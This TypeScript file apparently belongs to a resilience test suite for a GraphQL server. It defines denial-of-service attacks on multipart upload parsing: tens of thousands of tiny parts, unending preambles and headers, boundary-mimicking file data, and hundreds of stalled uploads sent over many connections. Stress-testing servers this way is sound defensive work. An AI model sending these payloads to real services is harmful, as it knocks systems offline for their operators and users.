/** Attacks by forms with files: parts without number, files that come slowly, and memory for what waits. */
import { type Attack, type Field } from './attack.ts'
import { sendOnConnections } from './cut-input.ts'

/** As short as a boundary can be, so that a piece of a body holds thousands of parts. */
const BOUNDARY = 'b'
const HEAD = Buffer.from(
  `POST /graphql HTTP/1.1\r\nHost: x\r\nApollo-Require-Preflight: true\r\nContent-Type: multipart/form-data; boundary=${BOUNDARY}\r\nContent-Length: 90000000\r\n\r\n`,
)
const OPERATIONS = '{"query":"query ($json: JSON) { count(json: $json) }","variables":{"json":null}}'
const SETTINGS = 'uploads: { enabled: true, idle_timeout: 2s }'

const field = (name: string, value: string): string =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
const begun = `${field('operations', OPERATIONS)}${field('map', '{"0":["variables.json"]}')}`
const file = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="0"; filename="f"\r\n\r\n`

const sent = (name: string, start: string, repeated: string): Attack => ({
  name: `23: ${name}`,
  settings: SETTINGS,
  run: (attacked: Field) =>
    sendOnConnections(attacked, 50, Buffer.concat([HEAD, Buffer.from(start)]), Buffer.from(repeated)),
})

export const FORMS: readonly Attack[] = [
  sent('forms of parts of five bytes', '', `\r\n--${BOUNDARY}`.repeat(10_000)),
  sent('forms of tiny parts after their fields', begun, `${file}x\r\n`.repeat(1000)),
  sent('forms with a preamble that does not end', '', '\r\n--'.repeat(16_000)),
  sent('a part whose header fields do not end', `${begun}--${BOUNDARY}\r\n`, 'A: b\r\n'.repeat(10_000)),
  sent('files that look like their boundary', begun + file, `\r\n-\r\n--`.repeat(8000)),
  {
    name: '23: 300 files that do not go on',
    settings: SETTINGS,
    run: (attacked) =>
      sendOnConnections(attacked, 300, Buffer.concat([HEAD, Buffer.from(begun + file)]), Buffer.alloc(0)),
  },
]
